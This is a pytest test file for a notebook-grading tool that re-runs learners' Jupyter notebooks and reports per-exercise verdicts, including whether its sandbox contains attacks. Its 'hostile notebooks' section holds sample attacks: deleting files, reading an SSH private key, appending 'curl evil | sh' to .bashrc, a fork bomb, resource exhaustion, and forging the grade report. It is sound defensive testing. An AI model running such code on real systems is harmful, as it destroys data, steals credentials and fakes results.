"""``./course.sh progress``: re-run learners' notebooks and tabulate every verdict.

Most tests grade a small synthetic course (course.toml, solutions/ and lessons/ made
here) whose notebooks have the course's shape (exercise headings, solution markers,
check calls) and whose checks use the real checker (autodiff_course.checking) without
TensorFlow, so their kernels start in a second or two. One class run, shared by the
tests through a module fixture, holds every case: a wrong answer, an untouched copy,
a cell that raises, an infinite loop, a kernel that dies, a notebook from another
version of the lesson, a renamed copy, a duplicate, and every kind of bad input. One test
grades the real lessons 01 and 07 (their solutions with one answer made wrong, and their
untouched copies).
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

import nbformat
import pytest

from course_tools import grading
from course_tools import progress
from course_tools.config import load_course
from course_tools.config import tomllib
from course_tools.lessons import CourseExercises
from course_tools.lessons import find_exercises
from course_tools.sandbox import Limits
from course_tools.sandbox import sandbox_support

ROOT = Path(__file__).resolve().parent.parent
TIMEOUT = 20  # seconds per notebook in the class run; its synthetic notebooks need ~2

COURSE_TOML = """\
[course]
title = "A synthetic course"
subtitle = "for the progress tests"
repository = "someone/synthetic"
ref = "main"

[[lessons]]
slug = "00-hello"
title = "Hello"
teaching_minutes = 5
exercise_minutes = 0

[[lessons]]
slug = "01-doubling"
title = "Doubling"
teaching_minutes = 10
exercise_minutes = 15

[[lessons]]
slug = "02-signs"
title = "Signs"
teaching_minutes = 10
exercise_minutes = 10
"""

# (number, title, stars, function, solution expression, probe, expected)
EXERCISES = {
    1: [
        ("1.1", "Double a number", "★☆☆ easy", "double", "2 * x", 3, 6),
        ("1.2", "Square a number", "★★☆ medium", "square", "x * x", 3, 9),
        ("1.3", "Negate a number", "★★★ hard", "negate", "-x", 3, -3),
    ],
    2: [
        ("2.1", "An absolute value", "★☆☆ easy", "absolute", "abs(x)", -4, 4),
        ("2.2", "The sign", "★★☆ medium", "sign", "(x > 0) - (x < 0)", -4, -1),
    ],
}
TITLES = {0: "Hello", 1: "Doubling", 2: "Signs"}
SLUGS = {0: "00-hello", 1: "01-doubling", 2: "02-signs"}

SETUP = """\
import types
from autodiff_course.checking import NotAttempted, Wrong, exercise


def value_check(number, title, probe, expected):
    @exercise(number, title)
    def judge(function):
        try:
            value = function(probe)
        except NotImplementedError:
            raise NotAttempted()
        if value != expected:
            raise Wrong(f"f({probe}) should be {expected}, not {value}.", "other")
        return f"f({probe}) is {expected}."
    return judge


check = types.SimpleNamespace({checks})"""


def setup_cell(lesson: int) -> str:
    checks = ", ".join(
        f"{name}=value_check({number!r}, {title!r}, {probe}, {expected})"
        for number, title, _, name, _, probe, expected in EXERCISES.get(lesson, [])
    )
    return SETUP.replace("{checks}", checks)


def notebook(
    lesson: int,
    answers: dict[str, str] | None = None,
    solved: bool = True,
    title: str | None = None,
):
    """A course-shaped notebook. ``answers`` replaces an exercise's code cell."""
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {
        "name": "python3",
        "display_name": "Python 3",
        "language": "python",
    }
    cells = [
        nbformat.v4.new_markdown_cell(f"# {title or TITLES[lesson]}"),
        nbformat.v4.new_code_cell(setup_cell(lesson)),
    ]
    for number, name, stars, function, solution, _, _ in EXERCISES.get(lesson, []):
        cells.append(
            nbformat.v4.new_markdown_cell(
                f"### Exercise {number}: {name} ({stars}, 5 min)\n\nWrite `{function}(x)`."
            )
        )
        if answers and number in answers:
            code = answers[number]
        elif solved:
            code = (
                f"def {function}(x):\n    ### BEGIN SOLUTION\n    return {solution}\n"
                f"    ### END SOLUTION"
            )
        else:
            code = f"def {function}(x):\n    # YOUR CODE HERE\n    raise NotImplementedError()"
        cells.append(nbformat.v4.new_code_cell(code))
        cells.append(nbformat.v4.new_code_cell(f"check.{function}({function})"))
    cells.append(nbformat.v4.new_markdown_cell("## Key points\n\n- Done."))
    nb.cells = cells
    return nb


def write(nb, path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, path)
    return path


def make_course(root: Path) -> CourseExercises:
    root.mkdir(parents=True, exist_ok=True)
    (root / "course.toml").write_text(COURSE_TOML, encoding="utf-8")
    for lesson in (0, 1, 2):
        write(notebook(lesson), root / "solutions" / f"{SLUGS[lesson]}.ipynb")
        write(notebook(lesson, solved=False), root / "lessons" / f"{SLUGS[lesson]}.ipynb")
    return CourseExercises(load_course(root / "course.toml"), root / "solutions")


def snapshot(folder: Path) -> dict[str, tuple[int, bytes]]:
    return {
        str(p): (p.stat().st_mtime_ns, p.read_bytes())
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def run_progress(arguments: list[str], course: CourseExercises, cwd: Path):
    out, here = io.StringIO(), Path.cwd()
    os.chdir(cwd)
    try:
        status = progress.main(arguments, out=out, course=course)
    finally:
        os.chdir(here)
    return status, out.getvalue()


# ----------------------------------------------------------------- the class run


@pytest.fixture(scope="module")
def class_run(tmp_path_factory):
    base = tmp_path_factory.mktemp("progress")
    course = make_course(base / "course")
    learners = base / "class"
    # alice: 1.2 wrong; in lesson 02 the cell of 2.1 does not even compile; an extra,
    # untouched copy of lesson 01 under another name is passed over.
    write(
        notebook(1, {"1.2": "def square(x):\n    return x + x"}),
        learners / "alice" / "01-doubling.ipynb",
    )
    write(
        notebook(2, {"2.1": "def absolute(x)\n    return abs(x)"}),
        learners / "alice" / "02-signs.ipynb",
    )
    write(notebook(1, solved=False), learners / "alice" / "01-doubling (copy).ipynb")
    # bob: his lessons as they came.
    (learners / "bob").mkdir(parents=True)
    for name in ("01-doubling.ipynb", "02-signs.ipynb"):
        shutil.copy(base / "course" / "lessons" / name, learners / "bob")
    # carol: handed in nothing.
    (learners / "carol").mkdir()
    # dave: loops forever in 1.2; no lesson 02.
    write(
        notebook(1, {"1.2": "def square(x):\n    return x * x\n\nwhile True:\n    pass"}),
        learners / "dave" / "01-doubling.ipynb",
    )
    # erin: lesson 01 from another version: 1.2 was another exercise, 1.3 did not
    # exist, 1.4 did; its notebooks sit one folder down, as nbgrader collects them.
    old = notebook(1)
    old.cells[5].source = "### Exercise 1.2: Triple a number (★★☆ medium, 5 min)"
    old.cells[6].source = "def triple(x):\n    return 3 * x"
    old.cells[7].source = "check.triple(triple)"
    old.cells[8].source = "### Exercise 1.4: Halve a number (★☆☆ easy, 5 min)"
    old.cells[9].source = "def halve(x):\n    return x / 2"
    old.cells[10].source = "check.halve(halve)"
    write(old, learners / "erin" / "01-doubling" / "01-doubling.ipynb")
    # frank: a renamed copy, recognised by its title.
    write(notebook(2), learners / "frank" / "my answers.ipynb")
    # gina: her code in 1.2 ends the kernel's process.
    write(notebook(1, {"1.2": "import os\nos._exit(1)"}), learners / "gina" / "01-doubling.ipynb")
    # Input that cannot be graded.
    (base / "empty").mkdir()
    stray = base / "stray"
    write(
        nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell("# My notes")]),
        stray / "notes.ipynb",
    )
    (stray / "corrupt.ipynb").write_text('{"cells": [', encoding="utf-8")
    (stray / "readme.txt").write_text("hello", encoding="utf-8")
    write(notebook(0), stray / "00-hello.ipynb")

    before = snapshot(base)
    csv_file = base / "out" / "progress.csv"
    csv_file.parent.mkdir()
    arguments = [
        "class",
        "empty",
        "stray/notes.ipynb",
        "stray/corrupt.ipynb",
        "stray/readme.txt",
        "stray/00-hello.ipynb",
        "nowhere",
        "--csv",
        str(csv_file),
        "--timeout",
        str(TIMEOUT),
        "--jobs",
        "2",
    ]
    status, output = run_progress(arguments, course, base)
    after = snapshot(base)
    rows = list(csv.DictReader(io.StringIO(csv_file.read_text(encoding="utf-8"))))
    return {
        "status": status,
        "output": output,
        "rows": rows,
        "csv": csv_file,
        "before": before,
        "after": after,
        "base": base,
    }


def table(output: str) -> dict[str, str]:
    """learner -> the verdict characters of their row, lessons joined by '|'."""
    lines = output.split("\n\n")
    block = next(b for b in lines if b.startswith("learner"))
    rows = {}
    for line in block.splitlines()[2:]:
        name, *groups = line.split()
        rows[name] = "|".join(groups)
    return rows


def test_the_class_table_has_one_row_per_learner_and_a_character_per_verdict(class_run):
    block = next(b for b in class_run["output"].split("\n\n") if b.startswith("learner"))
    header, numbers = block.splitlines()[:2]
    assert header.split() == ["learner", "01", "02"]
    assert numbers.split() == ["123", "12"]
    assert table(class_run["output"]) == {
        "alice": "+x+|E+",
        "bob": "...|..",
        "dave": "+TT|--",
        "erin": "+E-|--",
        "frank": "---|++",
        "gina": "+EE|--",
    }


def test_a_legend_follows_the_table(class_run):
    block = next(b for b in class_run["output"].split("\n\n") if b.startswith("+ correct"))
    legend = " ".join(block.split())
    for symbol, meaning in (
        ("+", "correct"),
        ("x", "not yet"),
        (".", "not attempted"),
        ("E", "error: a cell raised before the check ran"),
        ("T", "stopped at the time limit"),
        ("?", "the check was not called"),
        ("-", "no notebook, or no such exercise in it"),
    ):
        assert f"{symbol} {meaning}" in legend
    assert all(len(line) <= 88 for line in block.splitlines())


def test_totals_count_the_learners_who_passed_each_exercise(class_run):
    totals = next(b for b in class_run["output"].split("\n\n") if b.startswith("Passed"))
    lines = totals.splitlines()
    assert lines[0] == "Passed, per exercise (of 6 learners):"
    assert [line.split()[:2] for line in lines[1:]] == [
        ["1.1", "4/6"],
        ["1.2", "0/6"],
        ["1.3", "1/6"],
        ["2.1", "1/6"],
        ["2.2", "2/6"],
    ]
    assert lines[1].endswith("Double a number")


def test_errors_and_timeouts_are_explained_with_the_cell_and_the_error(class_run):
    output = class_run["output"]
    assert (
        "alice · class/alice/02-signs.ipynb · exercise 2.1: error: code cell 2 "
        "(`def absolute(x)`) raised SyntaxError: expected ':' (line 1 of the cell)"
    ) in output
    assert (
        "dave · class/dave/01-doubling.ipynb · exercises 1.2, 1.3: timeout: the "
        "notebook was stopped at the time limit in code cell 4 (`def square(x):`)"
    ) in output
    assert "dave · class/dave/01-doubling.ipynb: 1 of 3 correct" in output
    assert f"stopped at the {TIMEOUT} s time limit" in output
    assert (
        "gina · class/gina/01-doubling.ipynb · exercises 1.2, 1.3: error: the kernel "
        "died in code cell 4 (`import os`)"
    ) in output
    assert (
        "erin · class/erin/01-doubling/01-doubling.ipynb · exercise 1.2: error: code "
        "cell 5 (`check.triple(triple)`) raised AttributeError:"
    ) in output


def test_each_bad_input_gets_one_clear_line_and_the_run_goes_on(class_run):
    lines = class_run["output"].splitlines()
    expected = [
        "empty: no notebooks here.",
        "stray/notes.ipynb: not one of the course's lessons.",
        "stray/readme.txt: not a notebook (only .ipynb files are graded).",
        "stray/00-hello.ipynb: lesson 00 has no exercises to grade.",
        "nowhere: no such file or folder.",
        "class/carol: no notebooks here.",
        "class/alice/01-doubling (copy).ipynb: a second copy of lesson 01 for alice; "
        "graded class/alice/01-doubling.ipynb instead.",
        "class/erin/01-doubling/01-doubling.ipynb: from another version of lesson 01 "
        "(exercise 1.2 differs from the current lesson's; exercise 1.3 is missing; "
        "exercise 1.4 no longer exists); graded as far as its exercises match.",
    ]
    for line in expected:
        assert lines.count(line) == 1, line
    corrupt = [line for line in lines if line.startswith("stray/corrupt.ipynb: ")]
    assert len(corrupt) == 1 and corrupt[0].startswith(
        "stray/corrupt.ipynb: not a readable notebook ("
    )
    assert "Traceback" not in class_run["output"]
    assert class_run["status"] == 0


def test_the_csv_has_one_row_per_learner_and_exercise(class_run):
    rows = class_run["rows"]
    header = class_run["csv"].read_text(encoding="utf-8").splitlines()[0]
    assert header == "learner,notebook,exercise,verdict,mistake,detail"
    assert len(rows) == 6 * 5
    by = {(row["learner"], row["exercise"]): row for row in rows}
    assert by["alice", "1.1"]["verdict"] == "correct"
    assert by["alice", "1.1"]["detail"] == "f(3) is 6."
    assert by["alice", "1.2"]["verdict"] == "not yet"
    assert by["alice", "1.2"]["mistake"] == "other"
    assert by["alice", "1.2"]["detail"] == "f(3) should be 9, not 6."
    assert by["alice", "1.2"]["notebook"] == "class/alice/01-doubling.ipynb"
    assert by["bob", "2.2"]["verdict"] == "not attempted"
    assert by["bob", "2.2"]["mistake"] == by["bob", "2.2"]["detail"] == ""
    assert by["alice", "2.1"]["verdict"] == "error"
    assert "SyntaxError" in by["alice", "2.1"]["detail"]
    assert by["dave", "1.3"]["verdict"] == "timeout"
    assert by["dave", "2.1"] == {
        "learner": "dave",
        "notebook": "",
        "exercise": "2.1",
        "verdict": "missing",
        "mistake": "",
        "detail": "no notebook for lesson 02",
    }
    assert by["erin", "1.3"]["verdict"] == "missing"
    assert "no exercise 1.3" in by["erin", "1.3"]["detail"]
    assert by["frank", "2.1"]["notebook"] == "class/frank/my answers.ipynb"
    assert {row["verdict"] for row in rows} <= {
        "correct",
        "not yet",
        "not attempted",
        "error",
        "timeout",
        "no verdict",
        "missing",
    }


def test_a_notebook_stopped_before_its_first_cell_says_so(tmp_path):
    course = make_course(tmp_path / "course")
    submission = grading.Submission(
        "zoe", tmp_path / "01-doubling.ipynb", course.by_number(1), notebook(1)
    )
    run = grading.Run(nb=notebook(1), stopped_reason=grading.TIMEOUT)
    verdicts = grading.verdicts_for(submission, run, course.exercises(course.by_number(1)))
    assert {(v.verdict, v.detail) for v in verdicts} == {
        ("timeout", "the notebook was stopped at the time limit before its first cell ran")
    }


def inside_a_running_loop(work):
    """Call ``work()`` from a coroutine, as a notebook or Playwright's synchronous API
    would: in a thread of its own, so that no loop of the test process interferes."""
    import asyncio
    import threading

    outcome = {}

    async def call():
        return work()

    def run():
        try:
            outcome["value"] = asyncio.run(call())
        except BaseException as error:  # noqa: BLE001 (re-raised in the test)
            outcome["error"] = error

    thread = threading.Thread(target=run)
    thread.start()
    thread.join()
    if "error" in outcome:
        raise outcome["error"]
    return outcome["value"]


def test_grading_also_runs_where_an_event_loop_is_already_running(tmp_path):
    # asyncio.run refuses to start inside a running event loop: progress must still grade.
    course = make_course(tmp_path / "course")
    write(notebook(1), tmp_path / "class" / "amy" / "01-doubling.ipynb")
    status, output = inside_a_running_loop(lambda: run_progress(["class"], course, tmp_path))
    assert status == 0, output
    assert "amy" in table(output)


def test_an_error_inside_the_grading_loop_reaches_the_caller():
    async def fails():
        raise ValueError("graded nothing")

    with pytest.raises(ValueError, match="graded nothing"):
        inside_a_running_loop(lambda: grading.run_to_completion(fails()))


def test_the_learners_files_are_left_untouched(class_run):
    before, after = class_run["before"], class_run["after"]
    written = {str(class_run["csv"])}
    assert {k: v for k, v in after.items() if k not in written} == before


# ------------------------------------------------------------- smaller, faster runs


@pytest.fixture(scope="module")
def course_folder(tmp_path_factory):
    root = tmp_path_factory.mktemp("own") / "gradients-on-tape"
    course = make_course(root)
    # The learner has done 1.1 in their own lessons/.
    write(
        notebook(1, {"1.1": "def double(x):\n    return x * 2"}, solved=False),
        root / "lessons" / "01-doubling.ipynb",
    )
    return root, course


def test_with_no_argument_it_grades_your_own_lessons(course_folder):
    root, course = course_folder
    status, output = run_progress([], course, root)
    assert status == 0
    assert output.startswith("Grading your lessons in lessons.\n")
    assert table(output) == {"you": "+..|.."}


def test_where_the_no_argument_mode_looks(course_folder, tmp_path):
    root, course = course_folder
    lessons = root / "lessons"
    assert progress.own_lessons_folder(root, root) == lessons  # the course folder
    assert progress.own_lessons_folder(lessons, root) == lessons  # its lessons/
    assert progress.own_lessons_folder(tmp_path, root) == lessons  # anywhere else


def test_a_notebook_that_is_not_a_lesson_alone_grades_nothing_and_fails(tmp_path):
    course = make_course(tmp_path / "course")
    write(nbformat.v4.new_notebook(), tmp_path / "mine.ipynb")
    (tmp_path / "broken.ipynb").write_text("not json at all", encoding="utf-8")
    status, output = run_progress(["mine.ipynb", "broken.ipynb", "nothing-here"], course, tmp_path)
    assert status == 1
    assert output.splitlines()[-1] == "Nothing could be graded."
    assert "mine.ipynb: not one of the course's lessons." in output
    assert "Traceback" not in output


def test_a_folder_without_notebooks_fails(tmp_path):
    course = make_course(tmp_path / "course")
    (tmp_path / "empty").mkdir()
    status, output = run_progress(["empty"], course, tmp_path)
    assert (status, output.splitlines()) == (
        1,
        ["empty: no notebooks here.", "Nothing could be graded."],
    )


def test_a_copy_of_the_course_counts_as_its_lessons_folder(tmp_path, monkeypatch):
    """A learner who hands in their whole copy of the course: only lessons/ is theirs."""
    course = make_course(tmp_path / "course")
    shutil.copytree(tmp_path / "course", tmp_path / "class" / "alice")
    monkeypatch.chdir(tmp_path)
    for paths in (["class"], ["class/alice"], ["class/alice", "class/alice/lessons"]):
        gathered = progress.gather(paths, course)
        assert gathered.notes == []
        assert [(s.learner, s.path.as_posix()) for s in gathered.submissions] == [
            ("alice", "class/alice/lessons/01-doubling.ipynb"),
            ("alice", "class/alice/lessons/02-signs.ipynb"),
        ]


@pytest.mark.parametrize(
    "arguments", [["--jobs", "0"], ["--timeout", "-1"], ["--csv", "no/such/folder/out.csv"]]
)
def test_nonsense_options_are_refused(arguments, tmp_path, capsys):
    with pytest.raises(SystemExit) as stopped:
        progress.main(arguments, out=io.StringIO(), course=make_course(tmp_path))
    assert stopped.value.code == 2
    error = capsys.readouterr().err
    assert "must be" in error or "its folder does not exist" in error


# -------------------------------------------------------------- hostile notebooks

needs_sandbox = pytest.mark.skipif(
    not sandbox_support().available and not os.environ.get("CI"),
    reason=f"no sandbox here: {sandbox_support().reason}",
)
SECRET = "instructor-private-key-4f2b9c"


def checksums(folder: Path, names=None) -> dict[str, str]:
    """path -> sha256 of its bytes, for every file under ``folder`` (or ``names`` in it)."""
    paths = [folder / n for n in names] if names is not None else sorted(folder.rglob("*"))
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in paths if p.is_file()}


def tracked(root: Path) -> list[str]:
    listed = subprocess.run(["git", "ls-files", "-z"], cwd=root, capture_output=True, check=True)
    return [name for name in listed.stdout.decode().split("\0") if name]


def kernels_left() -> list[str]:
    """Processes still running from a contained kernel's folder."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            command = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode()
        except OSError:
            continue
        if "course-kernel-" in command and "kernel_limits" in command:
            found.append(command[:200])
    return found


def hostile_class(base: Path, victim: Path, listener_port: int) -> dict[str, str]:
    """One learner per threat, each attacking in exercise 1.2 before defining its
    answer (1.1 and 1.3 are solved); returns each one's attack, by learner. ``victim``
    is a folder the sandbox shows, read-only (inside the course); the instructor's home
    is hidden."""
    victim.mkdir(parents=True)
    (victim / "precious.txt").write_text("an instructor's file\n", encoding="utf-8")
    home = base / "instructor"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(SECRET + "\n", encoding="utf-8")
    (home / ".bashrc").write_text("# the instructor's shell settings\n", encoding="utf-8")
    threats = {
        # delete outside its folder, and scribble there
        "deleter": f"import shutil\nopen({str(victim / 'new.txt')!r}, 'w').write('x')\n"
        f"shutil.rmtree({str(victim)!r})",
        # read a file in the instructor's home (and change another)
        "snoop": f"secret = open({str(home / '.ssh' / 'id_rsa')!r}).read()\n"
        f"open({str(home / '.bashrc')!r}, 'a').write('curl evil | sh')\n"
        "raise ValueError(secret)",
        # a fork bomb
        "forker": "import os\nwhile True:\n    os.fork()",
        # 50 GB, a gigabyte at a time, every byte written
        "hog": "pieces = []\nfor _ in range(50):\n    pieces.append(b'x' * 2**30)",
        # a network connection (to a listener of this test, on the loopback)
        "talker": "import socket\n"
        f"socket.create_connection(('127.0.0.1', {listener_port}), timeout=5).sendall(b'hi')",
        # an endless loop
        "looper": "while True:\n    pass",
        # a file as large as the disk
        "filler": "with open('big.bin', 'wb') as out:\n"
        "    for _ in range(1024):\n        out.write(b'x' * 2**20)",
    }
    learners = base / "class"
    for learner, attack in threats.items():
        code = attack + "\n\ndef square(x):\n    return x * x"
        write(notebook(1, {"1.2": code}), learners / learner / "01-doubling.ipynb")
    # overwrite the verdict report to fake a pass on every exercise
    faker = notebook(1, solved=False)
    forged = [
        {"exercise": n, "title": t, "status": "correct", "message": "ok", "seconds": [0.01]}
        for n, t, *_ in EXERCISES[1]
    ]
    faker.cells.append(
        nbformat.v4.new_code_cell(
            "import json, os\n"
            "with open(os.environ['AUTODIFF_COURSE_REPORT'], 'w') as report:\n"
            f"    for record in {forged!r}:\n"
            "        report.write(json.dumps(record) + '\\n')"
        )
    )
    write(faker, learners / "faker" / "01-doubling.ipynb")
    write(notebook(1), learners / "honest" / "01-doubling.ipynb")
    return threats


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    import socket
    import threading

    base = tmp_path_factory.mktemp("hostile")
    course = make_course(base / "course")
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.5)
    reached: list[bytes] = []
    stop = threading.Event()

    def listen():
        while not stop.is_set():
            try:
                connection, _ = listener.accept()
            except OSError:
                continue
            reached.append(connection.recv(100))
            connection.close()

    thread = threading.Thread(target=listen, daemon=True)
    thread.start()
    victim = ROOT / ".cache" / f"hostile-victim-{os.getpid()}"
    hostile_class(base, victim, listener.getsockname()[1])
    home = base / "instructor"
    before = {**checksums(base), **checksums(victim), **checksums(ROOT, tracked(ROOT))}
    previous_home = os.environ.get("HOME")
    os.environ["HOME"] = str(home)  # the grader's home: the instructor's
    try:
        status, output = run_progress(
            ["class", "--csv", str(base / "out.csv"), "--timeout", "30", "--jobs", "2"],
            course,
            base,
        )
    finally:
        os.environ["HOME"] = previous_home or ""
        stop.set()
        thread.join()
        listener.close()
    after = {**checksums(base), **checksums(victim), **checksums(ROOT, tracked(ROOT))}
    shutil.rmtree(victim, ignore_errors=True)
    rows = list(csv.DictReader((base / "out.csv").open(encoding="utf-8")))
    return {
        "status": status,
        "output": output,
        "rows": {(row["learner"], row["exercise"]): row for row in rows},
        "before": before,
        "after": after,
        "csv": str(base / "out.csv"),
        "reached": reached,
        "left": kernels_left(),
    }


@needs_sandbox
def test_every_threat_is_contained_and_named_in_the_table_and_the_csv(hostile_run):
    assert hostile_run["status"] == 0, hostile_run["output"]
    assert "Each notebook runs in a sandbox (bubblewrap)" in hostile_run["output"]
    assert table(hostile_run["output"]) == {
        "deleter": "+S+",
        "faker": "!!!",
        "filler": "+F+",
        "forker": "+P+",
        "hog": "+M+",
        "honest": "+++",
        "looper": "+TT",
        "snoop": "+S+",
        "talker": "+S+",
    }, hostile_run["output"]
    rows = hostile_run["rows"]
    expected = {
        "deleter": "stopped: sandbox",
        "snoop": "stopped: sandbox",
        "forker": "stopped: process limit",
        "hog": "stopped: memory limit",
        "talker": "stopped: sandbox",
        "looper": "timeout",
        "filler": "stopped: file size limit",
        "faker": "tampered",
    }
    for learner, verdict in expected.items():
        assert rows[learner, "1.2"]["verdict"] == verdict, rows[learner, "1.2"]
    assert "Read-only file system" in rows["deleter", "1.2"]["detail"]
    assert "into the report itself" in rows["faker", "1.1"]["detail"]


@needs_sandbox
def test_no_file_outside_the_temporary_folders_changed(hostile_run):
    before, after = hostile_run["before"], hostile_run["after"]
    changed = {k for k in set(before) | set(after) if before.get(k) != after.get(k)}
    assert changed == {hostile_run["csv"]}


@needs_sandbox
def test_the_secret_stays_secret_and_nothing_reached_the_network(hostile_run):
    assert SECRET not in hostile_run["output"]
    assert not any(SECRET in " ".join(row.values()) for row in hostile_run["rows"].values())
    assert hostile_run["reached"] == []


@needs_sandbox
def test_no_process_of_a_contained_kernel_is_left(hostile_run):
    assert hostile_run["left"] == []


def test_without_a_sandbox_progress_says_so_once_and_still_limits(tmp_path):
    """--no-sandbox: one plain sentence, and the memory limit still stops a hog."""
    course = make_course(tmp_path / "course")
    hog = "pieces = [b'x' * 2**30 for _ in range(50)]\n\ndef square(x):\n    return x * x"
    write(notebook(1, {"1.2": hog}), tmp_path / "class" / "hog" / "01-doubling.ipynb")
    write(notebook(1), tmp_path / "class" / "honest" / "01-doubling.ipynb")
    status, output = run_progress(["class", "--no-sandbox", "--jobs", "2"], course, tmp_path)
    assert status == 0, output
    lines = [line for line in output.splitlines() if line.startswith("No sandbox: ")]
    assert len(lines) == 1, output
    assert "it was turned off (--no-sandbox)" in lines[0]
    assert "can read and change your files" in lines[0]
    assert table(output) == {"hog": "+M+", "honest": "+++"}


def test_the_cpu_time_limit_stops_a_kernel_that_spins(tmp_path):
    """Two threads spin past a CPU limit of 3 s, well inside the time limit."""
    course = make_course(tmp_path / "course")
    spin = (
        "import threading\n\ndef spin():\n    while True:\n        pass\n\n"
        "threading.Thread(target=spin, daemon=True).start()\nspin()"
    )
    write(notebook(1, {"1.2": spin}), tmp_path / "class" / "spinner" / "01-doubling.ipynb")
    out, here = io.StringIO(), Path.cwd()
    os.chdir(tmp_path)
    try:
        status = progress.main(
            ["class", "--timeout", "60", "--csv", "out.csv"],
            out=out,
            course=course,
            limits=Limits(cpu_seconds=3),
        )
    finally:
        os.chdir(here)
    assert status == 0, out.getvalue()
    assert table(out.getvalue()) == {"spinner": "+CC"}, out.getvalue()
    rows = list(csv.DictReader((tmp_path / "out.csv").open(encoding="utf-8")))
    assert rows[1]["verdict"] == "stopped: CPU time limit"
    assert rows[1]["detail"].startswith("the kernel used up its CPU time in code cell 4")


# ----------------------------------------------------------------- the real course


@pytest.mark.parametrize("number", [1, 7], ids=["lesson 01", "lesson 07"])
def test_a_class_on_a_real_lesson(tmp_path, number):
    """Solutions with the first answer doubled, and the untouched lesson (lesson 07's
    first answer is a layer class: doubled, it fails)."""
    course = CourseExercises()
    lesson = course.by_number(number)
    exercises = course.exercises(lesson)
    nb = nbformat.read(ROOT / "solutions" / lesson.filename, as_version=4)
    first = find_exercises(nb)[0]
    definition = next(
        i
        for i in range(first.heading_cell, first.check_cell)
        if "### BEGIN SOLUTION" in nb.cells[i].source
    )
    nb.cells[definition].source += textwrap.dedent(f"""

        _right_answer = {first.answer}

        def {first.answer}(*args, **kwargs):  # twice the right value
            return 2 * _right_answer(*args, **kwargs)
        """)
    write(nb, tmp_path / "class" / "wrong" / lesson.filename)
    (tmp_path / "class" / "untouched").mkdir()
    shutil.copy(ROOT / "lessons" / lesson.filename, tmp_path / "class" / "untouched")
    before = snapshot(tmp_path / "class")
    status, output = run_progress(["class", "--csv", "out.csv"], course, tmp_path)
    assert status == 0, output
    assert snapshot(tmp_path / "class") == before
    n = len(exercises)
    assert table(output) == {"untouched": "." * n, "wrong": "x" + "+" * (n - 1)}, output
    rows = list(csv.DictReader((tmp_path / "out.csv").open(encoding="utf-8")))
    assert [row["exercise"] for row in rows] == [e.number for e in exercises] * 2
    assert rows[n]["verdict"] == "not yet" and rows[n]["mistake"]


# --------------------------------------------------------------------- the command


def test_course_sh_runs_progress_from_the_callers_folder(tmp_path):
    """course.sh moves to its own folder; progress must still see the caller's.
    (The nbgrader environment beside the venv is a fake too, with no pip.)"""
    fake = tmp_path / "venv" / "bin"
    fake.mkdir(parents=True)
    (tmp_path / "venv-nbgrader" / "bin").mkdir(parents=True)
    record = tmp_path / "called.json"
    (fake / "python").write_text(
        textwrap.dedent(f"""\
        #!{sys.executable}
        import json, os, sys
        if sys.argv[1:3] == ["-m", "course_tools.progress"] or \\
                sys.argv[1:3] == ["-m", "course_tools.nbgrader_export"]:
            with open({str(record)!r}, "a") as out:
                out.write(json.dumps({{"cwd": os.getcwd(), "argv": sys.argv[1:]}}) + "\\n")
        """)
    )
    (fake / "python").chmod(0o755)
    shutil.copy(fake / "python", tmp_path / "venv-nbgrader" / "bin" / "python")
    caller = tmp_path / "somewhere"
    caller.mkdir()
    environment = dict(os.environ, COURSE_VENV=str(tmp_path / "venv"))
    for command in (["progress", "alice", "--jobs", "1"], ["nbgrader", "out"]):
        done = subprocess.run(
            [str(ROOT / "course.sh"), *command],
            cwd=caller,
            env=environment,
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert done.returncode == 0, done.stderr
    calls = [json.loads(line) for line in record.read_text().splitlines()]
    assert calls == [
        {"cwd": str(caller), "argv": ["-m", "course_tools.progress", "alice", "--jobs", "1"]},
        {"cwd": str(caller), "argv": ["-m", "course_tools.nbgrader_export", "out"]},
    ]


def test_course_sh_help_lists_both_commands():
    done = subprocess.run([str(ROOT / "course.sh"), "help"], capture_output=True, text=True)
    assert "progress" in done.stdout and "nbgrader" in done.stdout


def test_course_tools_is_part_of_the_installed_package():
    """The editable install that course.sh makes covers course_tools, from anywhere."""
    from fnmatch import fnmatch

    settings = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))
    include = settings["tool"]["setuptools"]["packages"]["find"]["include"]
    assert any(fnmatch("course_tools", pattern) for pattern in include)
    found = subprocess.run(
        [sys.executable, "-c", "import course_tools; print(course_tools.__file__)"],
        cwd="/",
        capture_output=True,
        text=True,
        check=True,
    )
    assert Path(found.stdout.strip()) == ROOT / "course_tools" / "__init__.py"
